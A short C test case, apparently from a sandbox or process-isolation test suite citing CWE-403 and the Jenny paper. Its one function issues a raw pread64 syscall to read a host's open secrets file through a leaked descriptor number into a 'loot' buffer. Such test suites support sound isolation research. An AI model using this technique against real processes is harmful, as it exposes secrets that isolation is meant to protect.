/* Tries: to read a file of secrets that the host has open, by its number
 * From: CWE-403; Jenny (Schrammel et al., USENIX Security 2022)
 * Observed: The secret in what the call gave back.
 * Needs: linux */
#include "attacks/attack.h"

FOREIGN(run)
{
    kernel6(SYS_pread64, at->secrets, ADDRESS(at->loot), SECRET_SIZE, 0, 0, 0);
    return 0;
}
